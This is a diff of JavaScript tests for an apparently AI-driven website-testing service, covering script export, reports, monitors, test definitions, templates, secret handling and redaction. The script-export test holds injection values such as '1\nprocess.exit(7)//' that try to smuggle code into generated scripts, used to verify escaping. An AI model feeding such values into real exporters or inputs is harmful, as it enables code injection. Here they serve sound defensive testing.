+  console.log(`${check(deleted.statusCode === 200 && deletedAgain.statusCode === 404)} Delete then 404:`, deleted.statusCode, deletedAgain.statusCode);
+
+  // Filesystem adapter used for local development
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'run-history-'));
+  try {
+    const store = new FileJsonStore(dir);
+    await store.save('file-1', { testId: 'file-1', log: 'full log' }, { testId: 'file-1', status: 'passed' });
+    const keys = await store.keys();
+    const summary = await store.getMetadata('file-1');
+    const record = await store.get('file-1');
+    const removed = await store.delete('file-1');
+    console.log(`${check(keys.join() === 'file-1' && summary.status === 'passed' && record.log === 'full log' && removed && !(await store.get('file-1')))} File store save/list/get/delete`);
+  } finally {
+    fs.rmSync(dir, { recursive: true, force: true });
+  }
+}
+
+async function testScriptExport() {
+  console.log('\n📜 Testing Script Export');
+
+  const vm = require('vm');
+  const runHistory = require('../netlify/functions/lib/run-history');
+  const ScriptExporter = require('../netlify/functions/lib/script-exporter');
+  const { handler } = require('../netlify/functions/test-website');
+
+  const step = (index, input, extra = {}) => ({ index, tool: 'computer', waitMs: 500, result: 'ok', ...input, ...extra });
+  const run = {
+    testId: 'export-1',
+    client: 'anonymous',
+    status: 'passed',
+    instruction: 'Search for "birthday"\nand open the first card',
+    createdAt: '2025-01-07T02:00:00Z',
+    verdict: { passed: true, summary: 'Search works' },
+    trace: {
+      instruction: 'Search for "birthday"\nand open the first card',
+      websiteUrl: 'app.giftround.com',
+      display: { width: 1280, height: 720 },
+      steps: [
+        step(0, { action: 'screenshot' }, { waitMs: 0 }),
+        step(1, { action: 'click', coordinate: [640, 80] }, { waitMs: 1000 }),
+        step(2, { action: 'type', text: "birthday's" }),
+        step(3, { action: 'key', key: 'ctrl+Return' }),
+        step(4, { action: 'scroll', coordinate: [640, 400], direction: 'down', clicks: 2 }),
+        step(5, { action: 'click', coordinate: [10, 10] }, { result: 'Error: element detached' })
+      ]
+    }
+  };
+
+  const puppeteerScript = ScriptExporter.export(run, 'puppeteer');
+  const playwrightScript = ScriptExporter.export(run, 'playwright');
+  const compiles = script => {
+    try {
+      new vm.Script(script);
+      return true;
+    } catch (error) {
+      console.log(error.message);
+      return false;
+    }
+  };
+
+  const puppeteerOk = compiles(puppeteerScript) &&
+    puppeteerScript.includes('await page.mouse.click(640, 80);') &&
+    puppeteerScript.includes('await page.keyboard.down("Control");') &&
+    puppeteerScript.includes('await page.mouse.wheel({ deltaY: 240 });') &&
+    puppeteerScript.includes('// Checkpoint:') &&
+    puppeteerScript.includes('// Skipped: this step failed');
+  console.log(`${check(puppeteerOk)} Puppeteer script reproduces clicks, typing, keys and scrolls`);
+
+  const playwrightOk = compiles(playwrightScript) &&
+    playwrightScript.includes('await page.keyboard.press("Control+Enter");') &&
+    playwrightScript.includes('await page.waitForTimeout(1000);') &&
+    playwrightScript.includes('await page.mouse.wheel(0, 240);');
+  console.log(`${check(playwrightOk)} Playwright test generated`);
+
+  await runHistory.save(run);
+  const download = await handler(createMockGetEvent({ history: 'true', testId: 'export-1', export: 'playwright' }), createMockContext());
+  const downloaded = download.statusCode === 200 && download.body === playwrightScript &&
+    download.headers['Content-Disposition'] === 'attachment; filename="export-1.spec.js"';
+  console.log(`${check(downloaded)} Script downloaded from run history:`, download.statusCode, download.headers['Content-Disposition']);
+
+  const badFormat = await handler(createMockGetEvent({ history: 'true', testId: 'export-1', export: 'selenium' }), createMockContext());
+  console.log(`${check(badFormat.statusCode === 400)} Unknown export format rejected:`, badFormat.statusCode);
+
+  const dockerRun = { ...run, testId: 'export-docker', trace: { ...run.trace, executionMode: 'docker' } };
+  await runHistory.save(dockerRun);
+  const dockerExport = await handler(createMockGetEvent({ history: 'true', testId: 'export-docker', export: 'puppeteer' }), createMockContext());
+  console.log(`${check(dockerExport.statusCode === 409)} Docker-mode runs not exported:`, JSON.parse(dockerExport.body).error);
+
+  const separators = ScriptExporter.comment('line one\u2028line two\u2029line three');
+  console.log(`${check(separators === 'line one line two line three')} Line and paragraph separators kept out of comments`);
+
+  // A failed step still gets its comment, so recorded values must not break out of it
+  const hostile = { ...run.trace, steps: [
+    step(0, { action: 'click', coordinate: ['1\nprocess.exit(7)//', 2] }, { result: 'Error: click failed' }),
+    step(1, { action: 'scroll', coordinate: [1, 2], direction: 'up\nprocess.exit(7)//' }),
+    step(2, { action: 'click', coordinate: ['8', 'x'] })
+  ] };
+  const hostileScript = ScriptExporter.export({ ...run, trace: hostile }, 'puppeteer');
+  const contained = compiles(hostileScript) && !hostileScript.split('\n').some(line => line.startsWith('process.exit')) &&
+    hostileScript.includes('// Skipped: the recorded coordinate is not a number');
+  console.log(`${check(contained)} Non-numeric coordinates and directions kept out of the script`);
+  await runHistory.delete('export-1');
+  await runHistory.delete('export-docker');
+}
+
+async function testReportFormats() {
+  console.log('\n📋 Testing JUnit and TAP Reports');
+
+  const runHistory = require('../netlify/functions/lib/run-history');
+  const ReportFormatter = require('../netlify/functions/lib/report-formatter');
+  const { handler } = require('../netlify/functions/test-website');
+
+  const screenshot = { step: 'Final', image_base64: `data:image/png;base64,${Buffer.from('png-bytes').toString('base64')}` };
+  const suite = {
+    name: 'Smoke <pack>',
+    startedAt: '2025-01-07T02:00:00Z',
+    cases: [
+      { name: 'Homepage', testId: 'report-1', status: 'passed', duration: 3.5, verdict: { passed: true, summary: 'Loads', observations: [], failedExpectations: [] }, screenshots: [screenshot] },
+      { name: 'Signup', testId: 'report-2', status: 'failed', duration: 4, verdict: { passed: false, summary: 'Button "Join" does nothing', observations: ['No network request'], failedExpectations: ['Account is created'] }, screenshots: [] },
+      { name: 'Checkout', testId: 'report-3', status: 'failed', duration: 1, verdict: null, error: 'Failed to initialize browser', screenshots: [] },
+      { name: 'Profile # edit', testId: null, status: 'skipped', duration: null, verdict: null, screenshots: [] }
+    ]
+  };
+  const screenshotUrl = (testId, index) => `/api?testId=${testId}&screenshot=${index}`;
+
+  const junit = ReportFormatter.render(suite, 'junit', screenshotUrl).body;
+  const junitOk = junit.includes('<testsuite name="Smoke &lt;pack&gt;" tests="4" failures="1" errors="1" skipped="1"') &&
+    junit.includes('<failure message="Button &quot;Join&quot; does nothing">Failed expectation: Account is created') &&
+    junit.includes('<error message="Failed to initialize browser">') &&
+    junit.includes('[[ATTACHMENT|/api?testId=report-1&amp;screenshot=0]]');
+  console.log(`${check(junitOk)} JUnit XML with failures, errors, skips and screenshot attachments`);
+
+  const tap = ReportFormatter.render(suite, 'tap', screenshotUrl).body.split('\n');
+  const tapOk = tap[0] === 'TAP version 13' && tap[1] === '1..4' &&
+    tap.includes('ok 1 - Homepage') && tap.includes('not ok 2 - Signup') &&
+    tap.includes('  message: "Button \\"Join\\" does nothing"') &&
+    tap.includes('ok 4 - Profile \\# edit # SKIP Skipped after an earlier failure (stopOnFailure)');
+  console.log(`${check(tapOk)} TAP with YAML diagnostics and SKIP directives`);
+
+  await runHistory.save({ testId: 'report-1', client: 'anonymous', status: 'passed', instruction: 'Homepage', duration: 3.5, verdict: suite.cases[0].verdict, screenshots: [screenshot] });
+  const report = await handler(createMockGetEvent({ history: 'true', testId: 'report-1', format: 'junit' }), createMockContext());
+  console.log(`${check(report.statusCode === 200 && report.headers['Content-Type'].startsWith('application/xml') && report.body.includes('tests="1"'))} JUnit report for a saved run:`, report.statusCode);
+
+  const image = await handler(createMockGetEvent({ testId: 'report-1', screenshot: '0' }), createMockContext());
+  const imageOk = image.statusCode === 200 && image.isBase64Encoded && Buffer.from(image.body, 'base64').toString() === 'png-bytes';
+  console.log(`${check(imageOk)} Screenshot attachment served as an image:`, image.statusCode, image.headers['Content-Type']);
+
+  const badFormat = await handler(createMockGetEvent({ testId: 'report-1', format: 'xml' }), createMockContext());
+  console.log(`${check(badFormat.statusCode === 400)} Unknown report format rejected:`, badFormat.statusCode);
+  await runHistory.delete('report-1');
+}
+
+async function testHtmlReport() {
+  console.log('\n🖼️ Testing HTML Run Report');
+
+  const sharp = require('sharp');
+  const runHistory = require('../netlify/functions/lib/run-history');
+  const HtmlReport = require('../netlify/functions/lib/html-report');
+  const { handler } = require('../netlify/functions/test-website');
+
+  const png = (await sharp({ create: { width: 64, height: 48, channels: 3, background: '#ffffff' } }).png().toBuffer()).toString('base64');
+  const run = {
+    testId: 'html-1',
+    client: 'anonymous',
+    status: 'failed',
+    instruction: 'Check the <script> tag is escaped',
+    executionMode: 'puppeteer',
+    createdAt: '2025-01-07T02:00:00.000Z',
+    duration: 12.5,
+    usage: { requests: 2, inputTokens: 100, outputTokens: 20 },
+    error: 'Failed to take screenshot',
+    log: [
+      '[2025-01-07T02:00:00.000Z] Starting execution with Puppeteer',
+      '[2025-01-07T02:00:01.000Z] Claude iteration 1',
+      '[2025-01-07T02:00:02.000Z] Claude: I will click the search box',
+      'then type a query.',
+      '[2025-01-07T02:00:03.000Z] Clicked at coordinates (10, 20)',
+      '[2025-01-07T02:00:05.000Z] Claude iteration 2',
+      '[2025-01-07T02:00:06.000Z] Execution failed: Failed to take screenshot'
+    ].join('\n'),
+    screenshots: [
+      { step: 'Initial state', timestamp: '2025-01-07T02:00:00.500Z', image_base64: `data:image/png;base64,${png}` },
+      { step: 'Error state', timestamp: '2025-01-07T02:00:06.500Z', image_base64: `data:image/png;base64,${png}` }
+    ],
+    trace: {
+      steps: [{ index: 0, tool: 'computer', action: 'click', coordinate: [10, 20], result: 'Clicked at (10, 20)', startedAt: '2025-01-07T02:00:03.000Z', preScreenshot: png, postScreenshot: png }]
+    }
+  };
+
+  const timeline = HtmlReport.buildTimeline(run);
+  const grouped = timeline.map(section => `${section.title}:${section.steps.length}/${section.screenshots.length}`).join(',');
+  console.log(`${check(grouped === 'Setup:0/1,Iteration 1:1/0,Iteration 2:0/0')} Log, actions and screenshots grouped by iteration:`, grouped);
+
+  const html = await HtmlReport.generate(run);
+  const htmlOk = html.startsWith('<!DOCTYPE html>') &&
+    html.includes('Check the &lt;script&gt; tag is escaped') && !html.includes('<script') &&
+    html.includes('I will click the search box\nthen type a query.') &&
+    html.includes('Before click at (10, 20)') &&
+    html.includes('Error state at 2025-01-07T02:00:06.500Z');
+  console.log(`${check(htmlOk)} Report has escaped summary, reasoning, annotated click and error screenshot`);
+
+  await runHistory.save(run);
+  const response = await handler(createMockGetEvent({ history: 'true', testId: 'html-1', format: 'html' }), createMockContext());
+  console.log(`${check(response.statusCode === 200 && response.headers['Content-Type'].startsWith('text/html'))} HTML report served for a saved run:`, response.statusCode, `${response.body.length} bytes`);
+  await runHistory.delete('html-1');
+}
+
+async function testAnimation() {
+  console.log('\n🎞️ Testing Run Animation');
+
+  const sharp = require('sharp');
+  const runHistory = require('../netlify/functions/lib/run-history');
+  const ActionTrace = require('../netlify/functions/lib/action-trace');
+  const ScreenshotUtils = require('../netlify/functions/lib/screenshot-utils');
+  const { handler } = require('../netlify/functions/test-website');
+
+  const screen = async background => (await sharp({ create: { width: 320, height: 180, channels: 3, background } }).png().toBuffer()).toString('base64');
+  const [white, blue, green] = [await screen('#ffffff'), await screen('#0000ff'), await screen('#00ff00')];
+  const trace = {
+    steps: [
+      { index: 0, tool: 'computer', action: 'click', coordinate: [40, 30], preScreenshot: white, postScreenshot: blue },
+      { index: 1, tool: 'computer', action: 'type', text: 'cards', preScreenshot: blue, postScreenshot: green }
+    ]
+  };
+
+  const frames = ActionTrace.getFrames(trace);
+  const framesOk = frames.length === 2 && frames[0].image === white && frames[0].annotations[0].x === 40 && frames[1].image === green;
+  console.log(`${check(framesOk)} Frames use the clicked screen with a marker, then the screen after typing`);
+
+  const gif = await ScreenshotUtils.createAnimation(frames, { format: 'gif', frameDuration: 400, width: 160 });
+  const gifMeta = await sharp(Buffer.from(gif.data, 'base64'), { animated: true }).metadata();
+  const gifOk = gifMeta.format === 'gif' && gifMeta.pages === 2 && gifMeta.pageHeight === 90 && gifMeta.delay.every(delay => delay === 400);
+  console.log(`${check(gifOk)} Animated GIF with frame duration and size:`, gifMeta.pages, `${gifMeta.width}x${gifMeta.pageHeight}`, gifMeta.delay);
+
+  const webp = await ScreenshotUtils.createAnimation(frames, { format: 'webp' });
+  const webpMeta = await sharp(Buffer.from(webp.data, 'base64'), { animated: true }).metadata();
+  console.log(`${check(webpMeta.format === 'webp' && webpMeta.pages === 2)} Animated WebP:`, webpMeta.pages, `${webpMeta.width}x${webpMeta.pageHeight}`);
+
+  await runHistory.save({ testId: 'animation-1', client: 'anonymous', status: 'passed', screenshots: [], trace });
+  const response = await handler(createMockGetEvent({ testId: 'animation-1', animation: 'gif', frameDuration: '500' }), createMockContext());
+  console.log(`${check(response.statusCode === 200 && response.isBase64Encoded && response.headers['Content-Type'] === 'image/gif')} Animation downloaded for a saved run:`, response.statusCode, response.headers['Content-Disposition']);
+
+  const invalid = await handler(createMockGetEvent({ testId: 'animation-1', animation: 'mp4' }), createMockContext());
+  console.log(`${check(invalid.statusCode === 400)} Unknown animation format rejected:`, invalid.statusCode);
+  await runHistory.delete('animation-1');
+}
+
+async function testMonitors() {
+  console.log('\n⏰ Testing Monitors');
+
+  const http = require('http');
+  const monitors = require('../netlify/functions/lib/monitors');
+  const runHistory = require('../netlify/functions/lib/run-history');
+  const { handler, runMonitor } = require('../netlify/functions/test-website');
+  const testRegistry = require('../netlify/functions/lib/test-registry');
+
+  const badName = monitors.validate({ name: 'signup flow', schedule: '* * * * *', instruction: 'open the signup page' });
+  const badSchedule = monitors.validate({ name: 'signup', schedule: 'every hour', instruction: 'open the signup page' });
+  console.log(`${check(badName && badSchedule)} Invalid definitions rejected:`, badSchedule);
+
+  // Invalid entries are skipped rather than stopping the others
+  process.env.MONITORS = JSON.stringify([
+    { name: 'signup', schedule: '30 9 * * *', instruction: 'open the signup page' },
+    { name: 'broken', schedule: 'every hour', instruction: 'open the signup page' }
+  ]);
+  monitors.useDefinitions(null);
+  const loaded = monitors.getDefinitions();
+  delete process.env.MONITORS;
+  console.log(`${check(loaded.length === 1 && loaded[0].name === 'signup')} Monitors loaded from MONITORS:`, loaded.map(definition => definition.name));
+
+  const due = monitors.getDue(new Date(2025, 0, 6, 9, 30, 20)).length;
+  const notDue = monitors.getDue(new Date(2025, 0, 6, 9, 31, 0)).length;
+  console.log(`${check(due === 1 && notDue === 0)} Due at the scheduled minute only`);
+
+  // Schedules are read the way node-cron reads them
+  const CronSchedule = require('../netlify/functions/lib/cron-schedule');
+  const monday930 = new Date(2025, 0, 6, 9, 30, 0);
+  const schedules = [
+    ['*/15 9-17 * * mon-fri', true],
+    ['30 9 * jan 1', true],
+    ['30 9 * * 7', false],
+    ['0 30 9 6 1 *', true],
+    ['*/20 * * * *', false]
+  ];
+  const matched = schedules.every(([expression, expected]) => new CronSchedule(expression).matches(monday930) === expected);
+  console.log(`${check(matched)} Cron steps, ranges, names and seconds matched`);
+  const zoned = new CronSchedule('30 4 * * *', 'America/New_York').matches(new Date(Date.UTC(2025, 0, 6, 9, 30)));
+  console.log(`${check(zoned)} Cron schedules honour their timezone`);
+
+  // Local receiver that records state-change alerts
+  const alerts = [];
+  const server = http.createServer((req, res) => {
+    let body = '';
+    req.on('data', chunk => { body += chunk; });
+    req.on('end', () => {
+      alerts.push({ event: req.headers['x-webhook-event'], ...JSON.parse(body) });
+      res.end();
+    });
+  });
+  await new Promise(resolve => server.listen(0, resolve));
+
+  const webhookSecret = monitors.config.webhookSecret;
+  monitors.config.webhookSecret = 'test-secret';
+  process.env.WEBHOOK_ALLOWED_HOSTS = '127.0.0.1';
+
+  try {
+    const definition = {
+      name: 'checkout',
+      schedule: '* * * * *',
+      instruction: 'go through checkout',
+      options: { timeout: 60 },
+      alertUrl: `http://127.0.0.1:${server.address().port}/alerts`,
+      priority: 'normal'
+    };
+    monitors.useDefinitions([definition]);
+
+    // The browser cannot start here, so each check fails
+    const first = await runMonitor(definition);
+    const second = await runMonitor(definition);
+    console.log(`${check(first.changed && !second.changed && second.state === 'failing')} First failure changes state, second does not:`, first.state, second.state);
+    console.log(`${check(alerts.length === 1 && alerts[0].event === 'monitor.state_changed' && alerts[0].previousState === 'passing')} One alert sent for pass→fail:`, alerts.length);
+
+    const recovered = await monitors.recordRun(definition, { testId: 'monitor-recovered', status: 'passed', verdict: { passed: true, summary: 'Checkout works' }, completedAt: new Date().toISOString() });
+    console.log(`${check(recovered.changed && alerts.length === 2 && alerts[1].state === 'passing')} Alert sent for fail→pass:`, alerts.map(alert => alert.state));
+
+    const history = await runHistory.list({ monitor: 'checkout' });
+    console.log(`${check(history.length === 2 && history.every(run => run.monitor === 'checkout'))} Monitor runs kept in history:`, history.length);
+
+    // A fresh instance picks the state up from history
+    monitors.useDefinitions([definition]);
+    const listed = JSON.parse((await handler(createMockGetEvent({ monitors: 'true' }), createMockContext())).body);
+    console.log(`${check(listed.count === 1 && listed.monitors[0].state === 'failing' && listed.monitors[0].lastTestId === second.testId)} Monitor list reports state from history:`, listed.monitors.map(monitor => monitor.state));
+
+    // The lock lives in the shared store, so a check running in another instance blocks this one
+    const store = testRegistry.getStore();
+    await store.create('monitor-lock-checkout', { lockedAt: new Date().toISOString(), expiresAt: new Date(Date.now() + 60000).toISOString() });
+    const overlapping = await runMonitor(definition);
+    const listedRunning = JSON.parse((await handler(createMockGetEvent({ monitors: 'true' }), createMockContext())).body).monitors[0].running;
+    console.log(`${check(overlapping === null && listedRunning)} Check skipped while another instance holds the monitor lock`);
+
+    // A lock left behind by an instance that died expires
+    await store.save('monitor-lock-checkout', { lockedAt: new Date(0).toISOString(), expiresAt: new Date(Date.now() - 1000).toISOString() });
+    const takenOver = await monitors.start('checkout');
+    const lockedAgain = await monitors.start('checkout');
+    await monitors.finish('checkout');
+    console.log(`${check(takenOver && !lockedAgain && !(await monitors.isRunning('checkout')))} Expired monitor lock taken over, then released`);
+  } finally {
+    monitors.config.webhookSecret = webhookSecret;
+    delete process.env.WEBHOOK_ALLOWED_HOSTS;
+    monitors.useDefinitions(null);
+    server.close();
+  }
+
+  // Background function triggers are signed with MONITOR_SECRET
+  monitors.config.triggerSecret = 'trigger-secret';
+  const body = JSON.stringify({ monitor: 'checkout' });
+  const headers = Object.fromEntries(Object.entries(monitors.signTrigger(body)).map(([name, value]) => [name.toLowerCase(), value]));
+  const valid = monitors.verifyTrigger({ headers, body });
+  const tampered = monitors.verifyTrigger({ headers, body: JSON.stringify({ monitor: 'signup' }) });
+  monitors.config.triggerSecret = undefined;
+  console.log(`${check(valid && !tampered)} Trigger signature verified, tampered body rejected`);
+}
+
+async function testTestDefinitions() {
+  console.log('\n🗂️ Testing Test Definitions');
+
+  const testDefinitions = require('../netlify/functions/lib/test-definitions');
+  const testRegistry = require('../netlify/functions/lib/test-registry');
+  const { handler } = require('../netlify/functions/test-website');
+
+  const send = async (method, body, query, clientIP = '10.0.20.1') => {
+    const event = { ...createMockEvent(body, { query, clientIP }), httpMethod: method };
+    const response = await handler(event, createMockContext());
+    return { statusCode: response.statusCode, body: JSON.parse(response.body) };
+  };
+
+  const signup = await send('POST', {
+    name: 'Signup',
+    instruction: 'open the signup page and create an account',
+    expectations: ['The dashboard is shown'],
+    options: { timeout: 60 },
+    tags: ['smoke', 'signup']
+  }, { definitions: 'true' });
+  const checkout = await send('POST', { name: 'Checkout', instruction: 'go through checkout', tags: ['smoke'] }, { definitions: 'true' });
+  console.log(`${check(signup.statusCode === 201 && checkout.statusCode === 201)} Definitions created:`, signup.body.definition && signup.body.definition.id);
+
+  const duplicate = await send('POST', { name: 'signup', instruction: 'something else' }, { definitions: 'true' });
+  const invalid = await send('POST', { name: 'No instruction' }, { definitions: 'true' });
+  const offsite = await send('POST', { name: 'Offsite', instruction: 'look around', options: { websiteUrl: 'evil.example.com' } }, { definitions: 'true' });
+  console.log(`${check(duplicate.statusCode === 409 && invalid.statusCode === 400 && offsite.statusCode === 400)} Duplicate, invalid and off-site definitions rejected:`, duplicate.statusCode, invalid.statusCode, offsite.statusCode);
+
+  const id = signup.body.definition.id;
+  const smoke = await send('GET', undefined, { definitions: 'true', tag: 'smoke' });
+  console.log(`${check(smoke.body.count === 2 && smoke.body.definitions[0].name === 'Checkout')} List by tag, sorted by name:`, smoke.body.definitions.map(definition => definition.name));
+
+  const updated = await send('PUT', { name: 'Signup', instruction: 'open the signup page and register', tags: ['signup'] }, { definitionId: id });
+  const loaded = await send('GET', undefined, { definitionId: id });
+  console.log(`${check(updated.statusCode === 200 && loaded.body.definition.instruction === 'open the signup page and register' && loaded.body.definition.createdAt === signup.body.definition.createdAt)} Definition updated:`, loaded.body.definition.tags);
+
+  // Target profiles are option presets the definition's own options override
+  testDefinitions.useTargetProfiles({ quick: { timeout: 30, executionMode: 'puppeteer' } });
+  const resolved = testDefinitions.resolveOptions({ options: { timeout: 90 }, target: 'quick' });
+  const unknownTarget = await send('POST', { name: 'Targeted', instruction: 'look around', target: 'production-eu' }, { definitions: 'true' });
+  console.log(`${check(resolved.timeout === 90 && resolved.executionMode === 'puppeteer' && unknownTarget.statusCode === 400)} Target profile options resolved, unknown profile rejected`);
+  testDefinitions.useTargetProfiles(null);
+
+  // Retry while earlier tests still hold the concurrency slot
+  let byId;
+  await waitFor(async () => {
+    byId = await send('POST', { definitionId: id });
+    return byId.statusCode !== 429;
+  });
+  const run = testRegistry.get(byId.body.testId);
+  console.log(`${check(byId.statusCode === 202 && run.definitionId === id && run.instruction === 'open the signup page and register')} Run by id uses the saved instruction:`, byId.statusCode);
+
+  let byTag;
+  await waitFor(async () => {
+    byTag = await send('POST', { tag: 'smoke' }, undefined, '10.0.20.2');
+    return byTag.statusCode !== 429;
+  });
+  console.log(`${check(byTag.statusCode === 202 && byTag.body.total === 1)} Run by tag starts a suite of the tagged definitions:`, byTag.body.total);
+
+  const missing = await send('POST', { definitionId: 'does-not-exist' }, undefined, '10.0.20.3');
+  console.log(`${check(missing.statusCode === 404)} Unknown definition:`, missing.statusCode);
+
+  const deleted = await send('DELETE', undefined, { definitionId: id });
+  const deletedAgain = await send('DELETE', undefined, { definitionId: id });
+  console.log(`${check(deleted.statusCode === 200 && deletedAgain.statusCode === 404)} Delete then 404:`, deleted.statusCode, deletedAgain.statusCode);
+
+  await waitFor(async () => testRegistry.getSuite(byTag.body.suiteId).completedAt);
+}
+
+async function testInstructionTemplates() {
+  console.log('\n🧩 Testing Instruction Templates');
+
+  const InstructionTemplate = require('../netlify/functions/lib/instruction-template');
+  const testRegistry = require('../netlify/functions/lib/test-registry');
+  const { handler } = require('../netlify/functions/test-website');
+
+  const rendered = InstructionTemplate.render(
+    'Sign up as {{uniqueEmail}} and create a giftround for {{ teamName }} with {{size}} people',
+    ['The confirmation mentions {{uniqueEmail}}'],
+    { teamName: 'Design', size: 8 }
+  );
+  console.log(`${check(rendered.instruction.includes('for Design with 8 people') && rendered.expectations[0].endsWith(rendered.values.uniqueEmail))} Variables and generators resolved, repeated placeholders agree:`, rendered.instruction);
+  console.log(`${check(/^qa\+\d+-[0-9a-f]{6}@example\.com$/.test(rendered.values.uniqueEmail))} Unique email generated:`, rendered.values.uniqueEmail);
+
+  const missing = InstructionTemplate.render('Create a giftround for {{teamName}} on {{date}}', [], {});
+  console.log(`${check(missing.error === 'No value for placeholder {{teamName}}')} Missing variable reported:`, missing.error);
+
+  const send = async (body, clientIP) => {
+    const response = await handler(createMockEvent(body, { clientIP }), createMockContext());
+    return { statusCode: response.statusCode, body: JSON.parse(response.body) };
+  };
+
+  const unresolved = await send({ instruction: 'Create a giftround for {{teamName}}' }, '10.0.21.1');
+  const badVariables = await send({ instruction: 'Create a giftround for {{teamName}}', variables: { teamName: ['a'] } }, '10.0.21.1');
+  console.log(`${check(unresolved.statusCode === 400 && badVariables.statusCode === 400)} Unresolved placeholders and invalid variables rejected:`, unresolved.body.error);
+
+  // Retry while earlier tests still hold the concurrency slot
+  let single;
+  await waitFor(async () => {
+    single = await send({ instruction: 'Create a giftround for {{teamName}}', variables: { teamName: 'Marketing' } }, '10.0.21.2');
+    return single.statusCode !== 429;
+  });
+  const run = testRegistry.get(single.body.testId);
+  console.log(`${check(run.instruction === 'Create a giftround for Marketing' && run.parameters.template === 'Create a giftround for {{teamName}}')} Run receives the resolved instruction:`, run.instruction);
+
+  let table;
+  await waitFor(async () => {
+    table = await send({
+      name: 'Giftround setup',
+      instruction: 'Set up a giftround for the {{teamName}} team with {{size}} members',
+      data: [{ teamName: 'Design', size: 4 }, { teamName: 'Sales', size: 12 }]
+    }, '10.0.21.3');
+    return table.statusCode !== 429;
+  });
+  const suite = testRegistry.getSuiteReport(table.body.suiteId);
+  console.log(`${check(table.statusCode === 202 && suite.total === 2 && suite.cases[1].name === 'Giftround setup (row 2: teamName=Sales, size=12)')} Data table expands into one run per row:`, suite.cases.map(testCase => testCase.name));
+  console.log(`${check(suite.cases[1].instruction === 'Set up a giftround for the Sales team with 12 members' && suite.cases[1].dataRow.index === 1)} Data row recorded with the case:`, suite.cases[1].dataRow);
+
+  await waitFor(async () => testRegistry.getSuite(table.body.suiteId).completedAt);
+  const rowRun = testRegistry.getStatus(testRegistry.getSuiteReport(table.body.suiteId).cases[0].testId);
+  console.log(`${check(rowRun && rowRun.parameters.dataRow.values.teamName === 'Design')} Run result records its data row:`, rowRun && rowRun.parameters.dataRow);
+}
+
+async function testSecretVault() {
+  console.log('\n🔐 Testing Secret Vault');
+
+  const SecretVault = require('../netlify/functions/lib/secret-vault');
+  const ActionTrace = require('../netlify/functions/lib/action-trace');
+  const ScriptExporter = require('../netlify/functions/lib/script-exporter');
+  const PuppeteerComputerUse = require('../netlify/functions/lib/puppeteer-computer-use');
+  const { handler } = require('../netlify/functions/test-website');
+
+  const password = 'hunter2-Sup3rSecret';
+  process.env.SECRETS = JSON.stringify({
+    admin_password: password,
+    prod_password: { value: 'prod-only-value', allowedHosts: ['admin.giftround.com'] }
+  });
+  SecretVault.reset();
+
+  try {
+    const typed = [];
+    const computerUse = new PuppeteerComputerUse({ apiKey: 'test-key', testId: 'secret-test', options: { secrets: ['admin_password'] } });
+    computerUse.trace = new ActionTrace({ testId: 'secret-test', instruction: 'log in as admin', executionMode: 'puppeteer' });
+    computerUse.page = {
+      screenshot: async () => Buffer.from('fake').toString('base64'),
+      keyboard: { type: async text => { typed.push(text); } }
+    };
+
+    const requests = [];
+    const responses = [
+      { content: [{ type: 'tool_use', id: 's1', name: 'type_secret', input: { secret: 'admin_password' } }] },
+      { content: [{ type: 'tool_use', id: 's2', name: 'type_secret', input: { secret: 'prod_password' } }] },
+      {
+        content: [
+          { type: 'text', text: `The page echoed ${password} back in a banner` },
+          { type: 'tool_use', id: 'r1', name: 'report_result', input: { passed: true, summary: 'Logged in', observations: [], failedExpectations: [] } }
+        ]
+      }
+    ];
+    computerUse.anthropic.messages.create = async params => {
+      requests.push(JSON.parse(JSON.stringify(params)));
+      return responses.shift();
+    };
+
+    await computerUse.runClaudeWithComputerUse('log in as admin');
+
+    const tool = requests[0].tools.find(candidate => candidate.name === SecretVault.TOOL_NAME);
+    console.log(`${check(tool && tool.input_schema.properties.secret.enum.join(',') === 'admin_password')} type_secret offered with only the run's secret names`);
+    console.log(`${check(typed.length === 1 && typed[0] === password)} Secret value typed into the page, ungranted secret refused`);
+
+    const conversation = JSON.stringify(requests);
+    console.log(`${check(!conversation.includes(password) && conversation.includes('Typed: [secret:admin_password]'))} Value never sent to Claude, tool result shows the placeholder`);
+    console.log(`${check(!computerUse.log.includes(password) && computerUse.log.includes('Typed: [secret:admin_password]'))} Log shows [secret:admin_password], echoed values masked`);
+
+    const step = computerUse.trace.steps[0];
+    console.log(`${check(step.tool === 'type_secret' && step.secret === 'admin_password' && !JSON.stringify(computerUse.trace).includes(password))} Trace records the secret name only`);
+
+    const script = ScriptExporter.export({ testId: 'secret-test', instruction: 'log in as admin', trace: computerUse.trace }, 'puppeteer');
+    console.log(`${check(script.includes('await page.keyboard.type(process.env.SECRET_ADMIN_PASSWORD, { delay: 50 });'))} Exported script reads the secret from the environment`);
+
+    const send = async (options, clientIP) => handler(createMockEvent({ instruction: 'log in', options }, { clientIP }), createMockContext());
+    const unknown = await send({ secrets: ['root_password'] }, '10.0.22.1');
+    const wrongHost = await send({ secrets: ['prod_password'] }, '10.0.22.1');
+    console.log(`${check(unknown.statusCode === 400 && wrongHost.statusCode === 403)} Unknown secrets and secrets outside their hosts rejected:`, JSON.parse(wrongHost.body).error);
+  } finally {
+    delete process.env.SECRETS;
+    SecretVault.reset();
+  }
+}
+
+async function testRedaction() {
+  console.log('\n🙈 Testing Redaction');
+
+  const redactor = require('../netlify/functions/lib/redactor');
+  const { Redactor } = redactor;
+  const runHistory = require('../netlify/functions/lib/run-history');
+  const testRegistry = require('../netlify/functions/lib/test-registry');
+  const PuppeteerComputerUse = require('../netlify/functions/lib/puppeteer-computer-use');
+
+  const text = redactor.redactText('Paid with 4242 4242 4242 4242 as jane.doe@example.com using sk-ant-api03-abcdefghijkl at 1736208000000, order 12345678901234');
+  console.log(`${check(text.startsWith('Paid with [redacted:card] as [redacted:email] using [redacted:token] at 1736208000000,'))} Cards, emails and tokens redacted, timestamps kept:`, text);
+  console.log(`${check(text.endsWith('order 12345678901234'))} Digit runs failing the Luhn check are not cards`);
+
+  const custom = new Redactor();
+  custom.configure({ patterns: 'none', customPatterns: '{"orderId": "ORD-\\\\d+"}', fields: 'text,password' });
+  const redacted = custom.redact({ tool: 'computer', action: 'type', text: 'anything', result: 'Created ORD-123', nested: [{ password: 'x' }] });
+  console.log(`${check(redacted.text === '[redacted]' && redacted.nested[0].password === '[redacted]' && redacted.result === 'Created [redacted:orderId]')} Field rules and custom patterns applied:`, redacted);
+
+  // A typed card number stays out of the log, streamed events and the status payload
+  const testId = 'redaction-test';
+  testRegistry.create(testId, { instruction: 'Pay with the test card', executionMode: 'puppeteer', client: 'anonymous' });
